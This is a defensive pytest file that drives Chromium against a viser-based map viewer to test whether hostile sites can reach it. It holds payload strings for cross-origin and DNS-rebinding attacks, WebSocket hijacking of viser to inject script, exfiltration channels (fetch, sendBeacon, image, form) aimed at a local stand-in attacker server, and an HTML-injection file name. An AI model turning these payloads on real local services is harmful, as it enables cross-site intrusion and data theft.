"""Web sites that want the map, in Chromium: each attack, and what became of it.

They know the secret here, so that every other obstacle is met, too.
"""

import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from urllib.parse import unquote

import pytest

from tests.scenery import chromium
from tests.view.conftest import Served, comes, small_scene

viser = pytest.importorskip("viser", reason="the extra view is not installed")
server = pytest.importorskip("websockets.sync.server")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(chromium.PROGRAM is None, reason="Chromium is not installed"),
]
_NOTHING_S = 3.0  # in which nothing happens; against viser alone, an attack takes less


class Site:
    """A web site at 127.0.0.1, localhost and any name of ``.example``, and what it was told."""

    def __init__(self) -> None:
        self.joined: list[str] = []  # paths of websockets
        self.told: list[str] = []
        self.page = ""
        self._server = server.serve(
            self._join, "127.0.0.1", 0, process_request=self._answer, select_subprotocol=any_of
        )
        self.port = self._server.socket.getsockname()[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def _answer(self, connection, request):
        if request.headers.get("Upgrade") == "websocket":
            return None
        self.told.append(unquote(request.path))
        answer = connection.respond(200, self.page)
        del answer.headers["Content-Type"]
        answer.headers["Content-Type"] = "text/html"
        answer.headers["Access-Control-Allow-Origin"] = "*"
        return answer

    def _join(self, connection):
        """Be the server of a page of viser, and send it a script."""
        self.joined.append(connection.request.path)
        script = f"fetch('http://localhost:{self.port}/ran')"
        message = viser._messages.RunJavascriptMessage(script)
        connection.send(packed(message))
        connection.recv()

    def close(self) -> None:
        self._server.shutdown()

    def was_told(self, what: str) -> bool:
        return any(what in one for one in self.told)


def any_of(_, offered):
    return next(iter(offered), None)


def packed(message) -> bytes:
    """A message as viser sends it."""
    import msgspec
    import zstandard

    parts = {"messages": (message.as_serializable_dict([]),), "timestampSec": 0.0}
    inner = msgspec.msgpack.encode({**parts, "binaryBufferLengths": ()})
    compressed = zstandard.ZstdCompressor().compress(inner)
    return b"".join((*(len(one).to_bytes(8, "little") for one in (inner, compressed)), compressed))


@pytest.fixture(scope="module")
def browser(tmp_path_factory) -> Iterator[chromium.Page]:
    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
    with chromium.opened(tmp_path_factory.mktemp("profile"), rules) as page:
        yield page


@pytest.fixture
def site() -> Iterator[Site]:
    with closing(Site()) as one:
        yield one


def test_viser_alone_lets_a_site_run_scripts_in_its_page(browser, site):
    """What the others test is an attack: without what stands before viser it succeeds."""
    alone = viser.ViserServer("127.0.0.1", 0, verbose=False)
    try:
        browser.open(f"http://127.0.0.1:{alone.get_port()}/?websocket=ws://localhost:{site.port}")
        assert comes(browser, lambda: site.joined)
        assert comes(browser, lambda: site.was_told("/ran"))
    finally:
        alone.stop()


@contextmanager
def nothing_is_let_in(browser, served: Served, site: Site) -> Iterator[None]:
    yield
    browser.wait(_NOTHING_S)
    assert site.joined == []
    assert not site.was_told("/ran")
    assert not site.was_told("/got")
    assert served.pages() == 0


@pytest.mark.parametrize(
    "query", ["websocket=ws://localhost:{}/", "playbackPath=http://localhost:{}/got"]
)
def test_no_page_is_led_to_another_server(browser, served, site, query):
    there = f"{served.url}?{query.format(site.port)}"
    site.page = f"<script>location = '{there}'</script>"
    for first in (there, f"http://localhost:{site.port}/"):
        with nothing_is_let_in(browser, served, site):
            browser.open(first)
    assert browser.run("location.href") == there
    assert "recon printed" in browser.run("document.body.innerText")


ATTACKS = {
    "iframe": "<iframe src='{url}' onload='done()'></iframe>",
    "iframe led elsewhere": "<iframe src='{url}?websocket=ws://localhost:{port}' onload='done()'>",
    "sandboxed iframe": "<iframe sandbox='allow-scripts' src='{url}' onload='done()'></iframe>",
    "object": "<object data='{url}' onload='done()' onerror='done()'></object>",
    "script": "<script src='{url}' onload='done()' onerror='done()'></script>",
    "websocket": """<script>
        const page = new WebSocket('{ws}', ['{protocol}']);
        page.onopen = () => fetch('/got');
        page.onclose = done;
    </script>""",
    "websocket without the secret": """<script>
        const page = new WebSocket('{ws}'.slice(0, -44), ['{protocol}']);
        page.onopen = () => fetch('/got');
        page.onclose = done;
    </script>""",
    "fetch": """<script>
        fetch('{url}').then(page => page.text()).then(text => fetch('/got' + text.length), done);
    </script>""",
    "fetch without cors": """<script>
        fetch('{url}', {{mode: 'no-cors', credentials: 'include'}})
            .then(page => page.text()).then(text => text ? fetch('/got') : done(), done);
    </script>""",
}


@pytest.mark.parametrize("origin", ["localhost", "127.0.0.1", "hostile.example"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_page_of_another_port_or_site_gets_nothing(
    browser, served, site, protocol, attack, origin
):
    ws = served.url.replace("http", "ws", 1)
    how = {"url": served.url, "ws": ws, "protocol": protocol, "port": site.port}
    done = "<script>const done = () => fetch('/done')</script>"
    site.page = f"<body>{done}{ATTACKS[attack].format(**how)}</body>"
    with nothing_is_let_in(browser, served, site):
        browser.open(f"http://{origin}:{site.port}/")
        assert comes(browser, lambda: site.was_told("/done"))


def test_a_site_whose_name_leads_here_gets_nothing(browser, served, site, protocol):
    rebound = served.url.replace("127.0.0.1", "hostile.example")
    with nothing_is_let_in(browser, served, site):
        browser.open(rebound)
    assert "recon printed" in browser.run("document.body.innerText")
    ws = rebound.replace("http", "ws", 1)
    script = f"""new Promise(end => {{
        const page = new WebSocket('{ws}', ['{protocol}']);
        page.onopen = () => end('in');
        page.onclose = () => end('out');
    }})"""
    assert browser.run(script) == "out"


REACH = {
    "websocket": "new WebSocket('ws://localhost:{port}/', ['a'])",
    "fetch": "fetch('http://localhost:{port}/got', {{mode: 'no-cors'}})",
    "beacon": "navigator.sendBeacon('http://localhost:{port}/got', 'a')",
    "image": "new Image().src = 'http://localhost:{port}/got'",
    "style": "document.body.style.background = 'url(http://localhost:{port}/got)'",
    "script": "document.head.appendChild(Object.assign(document.createElement('script'), "
    "{{src: 'http://localhost:{port}/got'}}))",
    "frame": "document.body.appendChild(Object.assign(document.createElement('iframe'), "
    "{{src: 'http://localhost:{port}/got'}}))",
    "form": "(() => {{ const form = document.createElement('form'); form.target = '_blank'; "
    "form.action = 'http://localhost:{port}/got'; document.body.append(form); form.submit() }})()",
    "inline": "document.head.appendChild(Object.assign(document.createElement('script'), "
    "{{textContent: 'window.ran = 1; fetch(\"http://localhost:{port}/ran\")'}}))",
}


def test_even_a_script_in_the_page_reaches_nobody(browser, served, site):
    browser.open(served.url)
    assert comes(browser, lambda: served.viewer.looked_at)
    for script in REACH.values():
        browser.run(f"void ({script.format(port=site.port)})")
    browser.wait(_NOTHING_S)
    assert browser.run("window.ran === undefined")
    evaluated = browser.run("try { new Function('return 1')() } catch (e) { e.name }")
    assert evaluated == "EvalError"
    assert (site.joined, site.told) == ([], [])


def test_names_of_files_are_shown_as_they_are(browser, served, site):
    name = f"<img src=http://localhost:{site.port}/got onerror=fetch('/got')>![](a)<b>bold</b>"
    scene = small_scene()
    object.__setattr__(scene, "lines", [name])
    served.viewer.show(Path("run"), scene)
    browser.open(served.url)
    shown = "document.body.innerText.includes('![](a)<b>bold</b>')"
    assert comes(browser, lambda: browser.run(shown))
    assert site.told == []


def test_the_page_can_be_loaded_again_and_its_address_stays(browser, served):
    browser.open(served.url)
    assert comes(browser, lambda: served.viewer.looked_at)
    assert browser.run("location.href") == served.url
    served.viewer.looked_at = False
    browser.run("void setTimeout(() => location.reload())")
    assert comes(browser, lambda: served.viewer.looked_at)
    assert browser.run("location.href") == served.url
